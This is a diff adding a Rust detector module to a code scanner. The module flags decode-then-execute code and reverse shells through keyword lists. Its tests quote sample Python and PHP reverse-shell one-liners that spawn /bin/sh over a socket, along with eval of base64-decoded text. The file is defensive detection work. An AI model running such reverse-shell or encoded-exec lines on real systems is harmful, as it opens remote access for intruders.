@@ -1,0 +1,110 @@
+//! Code that hides what it does: it decodes a text and runs it, or hands a shell to a connection. Seen by the words in
+//! it, whatever the language; this only ever adds to what the reader of the language says.
+
+use super::{Action, Actions};
+use guardian_rules::EffectKind;
+
+/// Functions that make a text readable.
+const DECODES: &[&str] = &[
+    "b64decode",
+    "urlsafe_b64decode",
+    "b32decode",
+    "b16decode",
+    "a85decode",
+    "decodebytes",
+    "decode_base64",
+    "decode64",
+    "strict_decode64",
+    "base64_decode",
+    "atob",
+    "unhexlify",
+    "fromhex",
+    "fromCharCode",
+    "decompress",
+    "gzinflate",
+    "gzuncompress",
+    "str_rot13",
+    "rot13",
+    "rot_13",
+    "loads",
+    "unpack",
+];
+
+/// Functions that run a text.
+const RUNS: &[&str] =
+    &["eval", "exec", "Function", "instance_eval", "class_eval", "system", "popen", "assert", "execSync"];
+
+/// What opens a connection.
+const CONNECTS: &[&str] = &[
+    "socket",
+    "Socket",
+    "TCPSocket",
+    "create_connection",
+    "fsockopen",
+    "stream_socket_client",
+    "createConnection",
+    "IO::Socket::INET",
+    "sockaddr_in",
+];
+
+/// What hands a connection to a program.
+const HANDS: &[&str] = &[
+    "dup2",
+    "spawn",
+    "exec",
+    "execve",
+    "popen",
+    "popen3",
+    "Popen",
+    "subprocess",
+    "system",
+    "proc_open",
+    "execSync",
+    "pty",
+];
+
+/// Adds what the words of the code say.
+pub(super) fn look(code: &str, actions: &mut Actions) {
+    let word = |wanted: &[&str]| {
+        code.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').any(|word| wanted.contains(&word))
+    };
+    let from_base64 = word(&["Buffer"]) && word(&["base64", "hex"]);
+    if word(RUNS) && (word(DECODES) || from_base64) {
+        actions.push(Action::on(EffectKind::Execute, "encoded code"));
+    }
+    if word(CONNECTS) && word(HANDS) && word(&["sh", "bash", "zsh", "pty", "cmd"]) {
+        actions.push(Action::on(EffectKind::Execute, "a download: commands from a connection"));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Actions, look};
+
+    fn raises(code: &str) -> bool {
+        let mut actions = Actions::default();
+        look(code, &mut actions);
+        !actions.list.is_empty()
+    }
+
+    #[test]
+    fn what_hides_is_told_from_what_prints() {
+        for code in [
+            "exec(__import__('base64').b64decode('eA=='))",
+            "eval(Buffer.from('eA==', 'base64').toString())",
+            "eval(base64_decode(\"eA==\"));",
+            "s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
+            "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3\");",
+        ] {
+            assert!(raises(code), "{code}");
+        }
+        for code in [
+            "print(base64.b64decode('eA=='))",
+            "s=socket.socket(); print(s.connect_ex(('localhost', 80)))",
+            "subprocess.run(['ls'])",
+            "eval('1+1')",
+        ] {
+            assert!(!raises(code), "{code}");
+        }
+    }
+}
